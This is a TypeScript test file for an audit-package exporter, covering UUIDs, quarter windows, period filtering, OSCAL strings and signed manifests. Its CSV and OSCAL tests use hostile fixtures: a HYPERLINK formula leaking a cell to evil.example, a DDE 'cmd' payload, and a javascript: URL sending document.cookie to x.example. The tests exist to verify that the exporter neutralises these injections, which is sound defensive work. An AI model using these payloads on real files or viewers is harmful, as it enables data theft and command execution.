// The audit package's pure parts: name-based UUIDs, a quarter as instants in the
// organisation's time zone, what counts in a period, OSCAL's plain strings and URI
// references, and the manifest check on packages made by hand.
import { generateKeyPairSync, sign } from 'node:crypto';
import { describe, expect, it } from 'vitest';
import { parse } from 'csv-parse/sync';
import { soaCsv } from '../lib/cli/review-output.ts';
import { csvParts } from '../lib/domain/export/csv.ts';
import { MANIFEST_PATH, manifestFile, signingInput, unsignedManifest, verifyPackage, type Manifest } from '../lib/domain/export/manifest.ts';
import { oscalDocuments, oscalString, uriReference } from '../lib/domain/export/oscal.ts';
import { auditOfPeriod, evidenceOfPeriod, gapsOfPeriod, type PackageContent } from '../lib/domain/export/package.ts';
import { inWindow, parsePeriod, periodWindow, startOfLocalDay } from '../lib/domain/export/period.ts';
import { uuidV5 } from '../lib/domain/export/uuid.ts';
import type { Gap } from '../lib/domain/gaps/gap.ts';
import type { EvidenceRecord } from '../lib/domain/org/org.ts';
import { InputError } from '../lib/errors.ts';

const POLICY = { dueSoonDays: 14, escalateAfterDays: 7, reminderEveryDays: 7 };

describe('name-based UUIDs', () => {
  it('are RFC 9562 version 5: the DNS namespace example, and version and variant bits', () => {
    expect(uuidV5('www.example.com', '6ba7b810-9dad-11d1-80b4-00c04fd430c8')).toBe('2ed6657d-e927-568b-95e1-2665a8aea6a2');
    const u = uuidV5('harbour-ledger/2026-Q4/assessment-plan');
    expect(u).toMatch(/^[0-9a-f]{8}-[0-9a-f]{4}-5[0-9a-f]{3}-[89ab][0-9a-f]{3}-[0-9a-f]{12}$/);
    expect(uuidV5('harbour-ledger/2026-Q4/assessment-plan')).toBe(u);
    expect(uuidV5('harbour-ledger/2027-Q1/assessment-plan')).not.toBe(u);
  });
});

describe('the period', () => {
  it('is a quarter from its first local midnight to the next quarter\'s, as UTC instants', () => {
    expect(periodWindow('2026-Q4', 'Asia/Hong_Kong')).toEqual({
      period: '2026-Q4',
      timeZone: 'Asia/Hong_Kong',
      firstDay: '2026-10-01',
      lastDay: '2026-12-31',
      from: '2026-09-30T16:00:00.000Z',
      to: '2026-12-31T16:00:00.000Z',
    });
    // Summer time begins inside the quarter: the start is in GMT, the end in BST.
    expect(periodWindow('2026-Q1', 'Europe/London')).toMatchObject({ from: '2026-01-01T00:00:00.000Z', to: '2026-03-31T23:00:00.000Z' });
    expect(periodWindow('2026-Q4', 'America/New_York')).toMatchObject({ from: '2026-10-01T04:00:00.000Z', to: '2027-01-01T05:00:00.000Z' });
    // A day whose midnight is skipped (Santiago moves 00:00 to 01:00) begins at 01:00 local.
    expect(startOfLocalDay('2026-09-06', 'America/Santiago')).toBe('2026-09-06T04:00:00.000Z');
  });

  it('holds its first instant and not its end', () => {
    const w = periodWindow('2026-Q4', 'Asia/Hong_Kong');
    expect(inWindow('2026-09-30T16:00:00.000Z', w)).toBe(true);
    expect(inWindow('2026-09-30T15:59:59.999Z', w)).toBe(false);
    expect(inWindow('2026-12-31T15:59:59.999Z', w)).toBe(true);
    expect(inWindow('2026-12-31T16:00:00Z', w)).toBe(false);
  });

  it('is refused, naming the field, unless written YYYY-Qn', () => {
    expect(parsePeriod('2026-Q1')).toBe('2026-Q1');
    for (const bad of ['2026-Q5', '2026-Q0', '2026-11', 'Q4-2026', '', 2026]) expect(() => parsePeriod(bad)).toThrow(InputError);
    expect(() => parsePeriod('2026-Q5', '--period')).toThrow('--period: "2026-Q5" must be a quarter written YYYY-Qn, such as 2026-Q4');
  });
});

describe('what counts in a period', () => {
  const w = periodWindow('2026-Q4', 'Asia/Hong_Kong');
  const ev = (id: string, collected: string, validUntil?: string, extra: Partial<EvidenceRecord> = {}): EvidenceRecord => ({
    id,
    control: 'A.8.13',
    title: id,
    kind: 'report',
    location: `s3://bucket/${id}`,
    collected,
    ...(validUntil ? { validUntil } : {}),
    owner: 'someone',
    retired: false,
    origin: 'file',
    ...extra,
  });

  it('evidence collected by its last day and valid on or after its first, retired or renewed since or not', () => {
    const rows = evidenceOfPeriod(
      [
        ev('ended-before', '2026-01-01', '2026-09-30'),
        ev('ends-on-first-day', '2026-01-01', '2026-10-01'),
        ev('no-end', '2020-01-01'),
        ev('collected-last-day', '2026-12-31', '2027-12-31'),
        ev('collected-after', '2027-01-01', '2027-12-31'),
        ev('retired', '2026-07-01', '2026-12-31', { retired: true, renewedBy: 'next' }),
      ],
      w,
      '2026-11-30',
      POLICY,
    );
    expect(rows.map((r) => r.id)).toEqual(['collected-last-day', 'ends-on-first-day', 'no-end', 'retired']);
    expect(rows.find((r) => r.id === 'ends-on-first-day')?.status).toBe('escalated');
    expect(rows.find((r) => r.id === 'retired')).toMatchObject({ retired: true, renewedBy: 'next', status: 'current' });
  });

  it('gaps opened before its end and not closed before its start', () => {
    const gap = (id: string, openedAt: string, status: Gap['status'], closedAt?: string) => ({ id, openedAt, status, ...(closedAt ? { closedAt } : {}) }) as Gap;
    const chosen = gapsOfPeriod(
      [
        gap('a-closed-before', '2026-01-01T00:00:00Z', 'closed', '2026-09-30T15:00:00Z'),
        gap('b-closed-within', '2026-01-01T00:00:00Z', 'closed', '2026-10-02T00:00:00Z'),
        gap('c-open', '2026-11-30T09:00:00Z', 'open'),
        gap('d-opened-after', '2026-12-31T16:00:00Z', 'open'),
        gap('e-accepted', '2026-05-01T00:00:00Z', 'accepted'),
      ],
      w,
    );
    expect(chosen.map((g) => g.id)).toEqual(['b-closed-within', 'c-open', 'e-accepted']);
  });

  it('audit entries stamped in [start, end), in time order', () => {
    const at = ['2026-12-31T16:00:00.000Z', '2026-10-05T00:00:00.000Z', '2026-09-30T16:00:00.000Z', '2026-09-30T15:59:59.999Z'];
    expect(auditOfPeriod(at.map((a) => ({ at: a })), w).map((e) => e.at)).toEqual(['2026-09-30T16:00:00.000Z', '2026-10-05T00:00:00.000Z']);
  });
});

describe('the CSV parts, opened in a spreadsheet', () => {
  const HYPERLINK = '=HYPERLINK("http://evil.example/?x="&A1,"Click for details")';
  const DDE = "=cmd|' /C calc'!A0";
  const w = periodWindow('2026-Q4', 'Asia/Hong_Kong');
  const content = {
    org: { id: 'acme', name: 'Acme', timeZone: 'Asia/Hong_Kong' },
    window: w,
    generatedAt: '2026-11-30T09:00:00.000Z',
    asOf: '2026-11-30',
    people: [],
    soa: [{ id: 'A.5.1', title: 'Policies', theme: 'organizational', applicable: false, justification: '+852 2345 6789 handles it', evidenceStatus: 'current' }],
    review: {
      review: { id: '2026-Q4', status: 'open', openedAt: '2026-11-30T01:00:00.000Z', openedBy: 'x', due: '2026-12-30', deadline: '2026-12-31', summary: {} },
      tasks: [
        {
          id: '2026-Q4/A.5.1',
          control: 'A.5.1',
          controlTitle: 'Policies',
          owner: 'ada',
          reviewer: 'bo',
          due: '2026-12-30',
          status: 'answered',
          result: 'effective',
          comment: HYPERLINK,
          reviewComment: '@SUM(1+1)*cmd|\' /C calc\'!A0',
          evidenceStatusAtOpening: 'current',
          evidence: [{ id: 'ev-1', origin: 'api', title: DDE, location: 's3://b/k' }],
        },
      ],
      nonconformities: [{ id: 'NC-1', control: 'A.5.1', openedIn: '2026-Q3', status: 'open', reason: '-1+1' }],
    },
    evidence: [
      { id: 'ev-1', control: 'A.5.1', title: DDE, kind: '\t=1+1', owner: 'ada', origin: 'api', location: '\r=1+1', collected: '2026-11-01', status: 'current', retired: false },
      { id: 'ev-2', control: 'A.5.1', title: '-42', kind: 'report', owner: 'ada', origin: 'api', location: 's3://b/ok', collected: '2026-11-01', status: 'current', retired: false },
    ],
    gaps: { gaps: [{ id: 'g-1', rule: 'r', subject: { kind: 'source', id: '=1+2' }, status: 'open', severity: 'high', requirements: [], owner: 'ada', remedy: '+fix it', openedAt: '2026-11-01T00:00:00.000Z', reopened: 0 }] },
    dataMap: {
      scanId: 's1',
      scannedAt: '2026-11-01T00:00:00.000Z',
      sources: [{ id: '@source', platform: 'p', status: 'scanned', rating: 'red', reasons: ['=bad'], distinctPeople: -3, findings: {}, groups: { red: 0, amber: 0, green: 0 }, flows: [] }],
    },
    audit: [{ orgId: 'acme', at: '2026-11-30T01:00:00.000Z', event: 'task.answered', subject: 'TASK#x', actor: '=evil', detail: { comment: HYPERLINK }, key: 'k', hash: 'h' }],
    auditHead: { seq: 1, hash: null },
  } as unknown as PackageContent;
  const files = csvParts(content);
  const rows = (name: string) => parse((files.find((f) => f.path === name)?.content as Buffer).toString('utf8'), { bom: true, columns: true }) as Record<string, string>[];

  it('prefixes with a single quote every text cell that starts with =, +, -, @, a tab or a carriage return, so it is read as text, not a formula; numbers stay numbers', () => {
    expect(rows('review.csv')[0]).toMatchObject({ comment: `'${HYPERLINK}`, 'decision comment': "'@SUM(1+1)*cmd|' /C calc'!A0" });
    // The evidence cell starts with the item's id: a formula inside it is not at the cell's start.
    expect(rows('review.csv')[0]?.evidence).toBe(`ev-1: ${DDE} <s3://b/k>`);
    expect(rows('evidence.csv')[0]).toMatchObject({ title: `'${DDE}`, kind: "'\t=1+1", location: "'\r=1+1" });
    expect(rows('soa.csv')[0]?.justification).toBe("'+852 2345 6789 handles it");
    expect(rows('nonconformities.csv')[0]?.reason).toBe("'-1+1");
    expect(rows('gaps.csv')[0]).toMatchObject({ subject: "'=1+2", remedy: "'+fix it" });
    expect(rows('datamap.csv')[0]).toMatchObject({ source: "'@source", reasons: "'=bad" });
    expect(rows('audit.csv')[0]?.actor).toBe("'=evil");
    // Text that only looks like a number is text: it keeps what was typed.
    expect(rows('evidence.csv')[1]?.title).toBe("'-42");
    // Numbers stay numbers (a number is no formula); every other cell is as it was.
    expect(rows('datamap.csv')[0]?.['distinct people']).toBe('-3');
    expect(rows('gaps.csv')[0]?.reopened).toBe('0');
    expect(rows('evidence.csv')[1]).toMatchObject({ evidence: 'ev-2', location: 's3://b/ok', collected: '2026-11-01' });
    expect(rows('audit.csv')[0]?.detail).toBe(JSON.stringify({ comment: HYPERLINK }));
  });

  it('links no evidence whose stored location has a scheme a viewer would run (javascript:), naming it in the description only', () => {
    const planted = {
      ...content,
      review: undefined,
      evidence: [{ ...content.evidence[1]!, id: 'ev-3', location: 'javascript:fetch(`//x.example/`+document.cookie)' }, content.evidence[1]!],
    } as PackageContent;
    const results = oscalDocuments(planted).find((d) => d.path === 'assessment-results.json')!.document;
    const links = JSON.stringify(results).match(/"href":"[^"]*"/g) ?? [];
    expect(links.some((l) => l.includes('s3://b/ok'))).toBe(true);
    expect(links.filter((l) => /javascript:/i.test(l))).toEqual([]);
    expect(JSON.stringify(results)).toContain('at javascript:fetch');
  });

  it("writes the CLI's CSV tables (soa --format csv) the same way", () => {
    const csv = soaCsv([{ id: 'A.5.1', title: '=HYPERLINK("http://x")', theme: 'Organizational', applicable: true, justification: '@SUM(1)', justified: true, evidenceStatus: 'current' }]);
    const [row] = parse(csv, { bom: true, columns: true }) as Record<string, string>[];
    expect(row).toMatchObject({ control: 'A.5.1', title: `'=HYPERLINK("http://x")`, justification: "'@SUM(1)", applicable: 'yes' });
  });
});

describe("OSCAL's strings", () => {
  it('plain strings lose line breaks and spaces at either end', () => {
    expect(oscalString('  李家輝\nLee  Ka Fai \t')).toBe('李家輝 Lee Ka Fai');
  });

  it('a location becomes a URI reference, encoded only where it must be', () => {
    expect(uriReference('s3://harbour-ledger-evidence/a.5.14/2026-q3/review.pdf')).toBe('s3://harbour-ledger-evidence/a.5.14/2026-q3/review.pdf');
    expect(uriReference('https://example.com/Shared Documents/備份.pdf')).toBe('https://example.com/Shared%20Documents/%E5%82%99%E4%BB%BD.pdf');
    expect(uriReference('file:///srv/evidence/50%.txt')).toBe('file:///srv/evidence/50%25.txt');
    expect(uriReference('evidence/restore test.pdf')).toBe('evidence/restore%20test.pdf');
    expect(uriReference('Finance share \\\\fs01\\audit')).toBe('Finance%20share%20%5C%5Cfs01%5Caudit');
  });
});

describe('the manifest check', () => {
  const { privateKey, publicKey } = generateKeyPairSync('ed25519');
  const publicKeyPem = publicKey.export({ type: 'spki', format: 'pem' }).toString();
  const files = [
    { path: 'b.csv', content: Buffer.from('\ufeffa,b\n1,2\n') },
    { path: 'a.json', content: Buffer.from('{"x":"港灣"}\n') },
  ];
  const meta = { format: 'json' as const, period: '2026-Q4', orgId: 'acme', generatedAt: '2026-11-30T09:00:00.000Z', window: { from: 'x', to: 'y', timeZone: 'UTC' }, audit: { seq: 3, hash: 'f'.repeat(64) } };
  const signed = (): Manifest => {
    const unsigned = unsignedManifest(meta, files);
    return { ...unsigned, signature: { algorithm: 'Ed25519', keyId: 'k1', publicKeyPem, value: sign(null, signingInput(unsigned), privateKey).toString('base64') } };
  };
  const pack = (manifest: unknown, extra: Record<string, Buffer> = {}) =>
    new Map<string, Uint8Array>([...files.map((f) => [f.path, f.content] as const), [MANIFEST_PATH, Buffer.from(typeof manifest === 'string' ? manifest : JSON.stringify(manifest))], ...Object.entries(extra)]);

  it('lists files by path and signs the canonical JSON without the signature (key order does not matter)', () => {
    const m = signed();
    expect(m.files.map((f) => f.path)).toEqual(['a.json', 'b.csv']);
    expect(signingInput(m).toString()).toBe(signingInput({ signature: 'whatever', ...Object.fromEntries(Object.entries(m).reverse()) }).toString());
    expect(signingInput(m).toString()).not.toContain('signature');
    expect(verifyPackage(pack(m))).toMatchObject({ ok: true, problems: [] });
    expect(verifyPackage(new Map([...pack(m)].map(([k, v]) => [k, k === MANIFEST_PATH ? manifestFile(m).content : v]))).ok).toBe(true);
  });

  it('names a missing, unreadable or malformed manifest, and a signature over other bytes', () => {
    expect(verifyPackage(new Map(files.map((f) => [f.path, f.content]))).problems).toEqual(['manifest.json: missing']);
    expect(verifyPackage(pack('{not json')).problems[0]).toMatch(/^manifest\.json: not JSON/);
    expect(verifyPackage(pack({ ...signed(), files: 'none' })).problems).toEqual(['manifest.json: files: Invalid input: expected array, received string']);
    expect(verifyPackage(pack({ ...signed(), period: '2026-Q3' })).problems[0]).toMatch(/^manifest\.json: the signature does not verify \(Ed25519, key k1\)/);
    expect(verifyPackage(pack({ ...signed(), extra: true })).problems[0]).toMatch(/^manifest\.json: the signature does not verify/);
    const bad = signed();
    bad.signature.publicKeyPem = 'not a key';
    expect(verifyPackage(pack(bad)).problems).toEqual(['manifest.json: signature.publicKeyPem: not a public key']);
  });
});
